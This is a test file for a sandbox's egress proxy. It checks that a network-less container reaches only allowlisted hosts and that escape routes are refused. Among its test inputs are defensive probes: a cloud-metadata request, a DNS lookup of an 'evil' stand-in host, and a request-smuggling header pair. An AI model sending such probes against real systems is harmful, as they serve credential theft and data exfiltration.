import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { build } from 'tsdown';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllowlist } from '../../src/egress/rules/allowlist.ts';
import { proxyEnvironment, proxyProgram } from '../../src/egress/rules/index.ts';
import { keyedDigest, randomId } from '../../src/lib/index.ts';
import { EGRESS_KEY, EGRESS_SOCKET, egressIdentity, INSIDE } from '../../src/protocol/index.ts';
import type { EgressRule } from '../../src/protocol/index.ts';
import { MARK, newBuild, newSpec, removeAll, startContainer } from '../support/containers.ts';
import type { LiveContainer } from '../support/containers.ts';
import { dockerForTests } from '../support/docker.ts';
import { textOfRefusal } from '../support/egress-world.ts';
import { waitUntil } from '../support/wait-until.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const { engine, image: base, why } = await dockerForTests();
/** As docker/worker/prepare.sh makes it: a fresh volume takes over the rights of the folder that it is mounted on. */
const withFolder = newBuild(base, [`RUN mkdir -p ${INSIDE.egress} && chmod 1777 ${INSIDE.egress}`]);
const image = withFolder.tag;
const PROGRAMS = '/programs';
const WORKER = 5;
const KEY = 'made-up-key';

describe.skipIf(why !== '')(`a container without a network, and the proxy beside it${why && ` (${why})`}`, () => {
  let folder: string;
  let host: Server;
  let gateway: string;
  let open: number;
  let closed: number;
  let client: LiveContainer;
  let proxy: LiveContainer;
  const servers: Server[] = [];

  beforeAll(async () => {
    folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'mahabharatha-egress-')));
    await engine.buildImage(withFolder, () => undefined);
    await bundle(folder);
    gateway = await gatewayOfBridge();
    host = await serve(servers);
    open = (host.address() as AddressInfo).port;
    closed = ((await serve(servers)).address() as AddressInfo).port;
    const volume = `mahabharatha-test-${randomId()}`;
    await engine.createVolume(volume, MARK);
    // The client is there first: its door waits for the proxy.
    client = await startClient(volume, folder);
    const list = parseAllowlist([`${gateway}:${open}`, 'localhost:80', 'inside.test', 'example.org']);
    const trusted: EgressRule = { host: 'trusted.test', covers: 'host', ports: [open], trustedPrivate: true };
    proxy = await startProxy(volume, folder, [...list.rules, trusted], [`${gateway} inside.test trusted.test`]);
    // The door waits for it only for a while.
    await waitUntil('the proxy listens', async () => (await inside(`test -S ${EGRESS_SOCKET}`)) === 'exit 0');
  });

  afterAll(async () => {
    if (why === '') await removeAll(engine, [image]);
    for (const server of servers) server.close().closeAllConnections();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Runs it in the container without a network; what it prints, and how it ended. */
  async function inside(shell: string): Promise<string> {
    const end = `end-${randomId()}`;
    const from = client.out.stdout.length;
    client.write(`{ ${shell}\n} 2>&1; echo "exit $? ${end}"\n`);
    await client.printed(` ${end}`);
    return client.out.stdout.slice(from).replace(` ${end}\n`, '').trim();
  }
  const curl = (url: string, options = ''): Promise<string> =>
    inside(`curl --silent --show-error --max-time 600 ${options} ${url}`);
  const told = (): string[] =>
    proxy.out.stdout
      .trim()
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => `${(JSON.parse(line) as { worker: number }).worker} ${textOfRefusal(line)}`);

  it('reaches what the user has listed, with curl and with Node, plain and through a tunnel', async () => {
    expect(await curl(`http://${gateway}:${open}/a`)).toBe('hello /a\nexit 0');
    expect(await curl(`http://${gateway}:${open}/b`, '--proxytunnel')).toBe('hello /b\nexit 0');
    const script = `fetch('http://${gateway}:${open}/c').then((r) => r.text()).then((t) => process.stdout.write(t))`;
    expect(await inside(`node --eval "${script}"`)).toBe('hello /c\nexit 0');
    expect(await curl(`http://trusted.test:${open}/d`)).toBe('hello /d\nexit 0');
    // An offer of HTTP/2 is overheard, with the parser of the Node in the image as well.
    expect(await curl(`http://${gateway}:${open}/e`, '--http2')).toBe('hello /e\nexit 0');
    expect(told()).toEqual([]);
  });

  it('reaches nothing else through the proxy; the answer and the log say why', async () => {
    const own = ownAddress();
    const refused: readonly (readonly [url: string, reason: string])[] = [
      ['http://other.test/', 'refused other.test:80: not on the allowlist'],
      ['http://8.8.8.8/', 'refused 8.8.8.8:80: not on the allowlist'],
      ['http://169.254.169.254/latest/meta-data/', 'refused 169.254.169.254:80: not on the allowlist'],
      [
        `http://${gateway}:${closed}/`,
        `refused ${gateway}:${closed}: the allowlist has this host only for port ${open}`,
      ],
      [`http://${own}:${open}/`, `refused ${own}:${open}: not on the allowlist`],
      ['http://127.0.0.1.:80/', 'refused 127.0.0.1:80: not on the allowlist'],
      ['http://inside.test/', `refused inside.test:80: the name leads to ${gateway}, a private address`],
      ['http://localhost./', "refused localhost:80: the name leads to 127.0.0.1, the proxy's own loopback"],
    ];
    for (const [url, reason] of refused) {
      expect(await curl(url, '--noproxy ""')).toContain(`Mahabharatha ${reason}`);
      await waitUntil(`the log has: ${reason}`, () => told().includes(`${WORKER} ${reason}`));
    }
    const upgrade = '--header "Connection: Upgrade" --header "Upgrade: websocket"';
    expect(await curl(`http://${gateway}:${open}/`, upgrade)).toContain(
      'plain HTTP connections cannot be upgraded here',
    );
    const twice = '--header "Transfer-Encoding: chunked" --header "Content-Length: 3" --data abc';
    expect(
      await curl(`http://${gateway}:${open}/`, `${twice} --output /dev/null --write-out "%{http_code}"`),
    ).toContain('400');
    expect(await curl('https://other.test/')).toMatch(/CONNECT tunnel failed, response 502\nexit 56$/);
    expect(await inside('node --eval "fetch(\'https://other.test\').catch((e) => console.log(e.message))"')).toBe(
      'fetch failed\nexit 0',
    );
  });

  it('has no other way out: no names, no packets, no interface but its own', async () => {
    expect(await inside('getent hosts example.org')).toBe('exit 2');
    expect(await curl(`http://${gateway}:${open}/`, '--noproxy "*"')).toMatch(/exit 7$/);
    expect(await curl('http://169.254.169.254/', '--noproxy "*"')).toMatch(/exit 7$/);
    const udp = `require('dgram').createSocket('udp4').send('x', 53, '8.8.8.8', (e) => { console.log(e?.code); process.exit() })`;
    expect(await inside(`node --eval "${udp}"`)).toBe('ENETUNREACH\nexit 0');
    const dns = `new (require('dns').promises.Resolver)({timeout: 500, tries: 1}).resolve('secret.evil.test').catch((e) => console.log(e.code))`;
    expect(await inside(`node --eval "${dns}"`)).toMatch(/^(ECONNREFUSED|ETIMEOUT)\nexit 0$/);
    expect(await inside("tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")).toBe('lo\nexit 0');
  });

  it('cannot take the place of the proxy', async () => {
    expect(await inside(`rm ${EGRESS_SOCKET}; touch ${INSIDE.egress}/x`)).toMatch(/Read-only file system[^]*exit 1$/);
  });

  it('has no network any more when the proxy is asked to end, which it does at once', async () => {
    await engine.signalContainer(proxy.id, 'SIGTERM');
    expect(await engine.waitContainer(proxy.id)).toMatchObject({ code: 0 });
    expect(await curl(`http://${gateway}:${open}/a`)).toMatch(
      /Mahabharatha's egress proxy cannot be reached[^]*exit 0$/,
    );
  });

  it('has no proxy either when nothing renews the lease', async () => {
    const volume = `mahabharatha-test-${randomId()}`;
    await engine.createVolume(volume, MARK);
    const orphan = await startProxy(volume, folder, [], [], 500);
    expect(await engine.waitContainer(orphan.id)).toMatchObject({ code: 0 });
  });
});

/** The proxy's program, and one that is nothing but a worker's door. */
async function bundle(folder: string): Promise<void> {
  const door = path.join(folder, 'door.ts');
  const token = keyedDigest(KEY, egressIdentity(WORKER));
  const options = `{ port: ${INSIDE.proxyPort}, socket: '${EGRESS_SOCKET}', worker: ${WORKER}, token: '${token}', waitMs: 4000 }`;
  const source = path.join(ROOT, 'src/egress/door/index.ts');
  writeFileSync(
    door,
    `import { openEgressDoor } from '${source}';\nawait openEgressDoor(${options});\nconsole.log('open');\n`,
  );
  await build({
    cwd: ROOT,
    config: false,
    entry: { egress: path.join(ROOT, 'src/egress/proxy/main.ts'), door },
    outDir: path.join(folder, 'programs'),
    format: 'esm',
    platform: 'node',
    target: 'node20.19',
    outExtensions: () => ({ js: '.mjs' }),
    deps: { alwaysBundle: ['zod'] },
    dts: false,
    logLevel: 'error',
  });
}

async function serve(servers: Server[]): Promise<Server> {
  const server = createServer((request, response) => void response.end(`hello ${request.url}\n`));
  await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
  servers.push(server);
  return server;
}

/** This machine as containers on the bridge see it. */
async function gatewayOfBridge(): Promise<string> {
  const asked = await startContainer(engine, newSpec(image, 'cat /proc/net/route', { network: 'bridge' }));
  await asked.printed('\t0003\t');
  await engine.waitContainer(asked.id);
  const route = asked.out.stdout.split('\n').find((line) => line.split('\t')[1] === '00000000');
  const bytes = route?.split('\t')[2]?.match(/../g) ?? [];
  return bytes
    .toReversed()
    .map((byte) => Number.parseInt(byte, 16))
    .join('.');
}

/** Another address of this machine. */
function ownAddress(): string {
  const all = Object.entries(networkInterfaces()).filter(([name]) => !/^(lo|docker|br-|veth)/.test(name));
  return all.flatMap(([, each]) => each ?? []).find(({ family }) => family === 'IPv4')?.address ?? '10.255.0.1';
}

async function startClient(volume: string, folder: string): Promise<LiveContainer> {
  const shell = `node ${PROGRAMS}/door.mjs & exec bash`;
  const spec = newSpec(image, shell, {
    env: proxyEnvironment(INSIDE.proxyPort),
    memoryBytes: 512_000_000,
    mounts: [
      { kind: 'bind', source: path.join(folder, 'programs'), target: PROGRAMS, readOnly: true },
      { kind: 'volume', name: volume, target: INSIDE.egress, readOnly: true },
    ],
  });
  const client = await startContainer(engine, spec);
  await client.printed('open');
  return client;
}

/** As a launcher would; the name server's answers are of our own making, and the lease is never renewed. */
async function startProxy(
  volume: string,
  folder: string,
  rules: readonly EgressRule[],
  ...[hosts, leaseMs = 60_000]: [hosts: readonly string[], leaseMs?: number]
): Promise<LiveContainer> {
  const { command, env } = proxyProgram(rules, leaseMs, { access: false });
  const file = path.join(folder, `hosts-${randomId()}`);
  writeFileSync(file, ['127.0.0.1 localhost', ...hosts, ''].join('\n'));
  const shared = mkdtempSync(path.join(folder, 'shared-'));
  const spec = newSpec(image, '', {
    command: ['node', `${PROGRAMS}/egress.mjs`, ...command.slice(2)],
    env: { ...env, [EGRESS_KEY]: KEY },
    network: 'bridge',
    memoryBytes: 256_000_000,
    mounts: [
      { kind: 'bind', source: path.join(folder, 'programs'), target: PROGRAMS, readOnly: true },
      { kind: 'bind', source: file, target: '/etc/hosts', readOnly: true },
      { kind: 'bind', source: shared, target: INSIDE.shared, readOnly: true },
      { kind: 'volume', name: volume, target: INSIDE.egress, readOnly: false },
    ],
  });
  return startContainer(engine, spec);
}
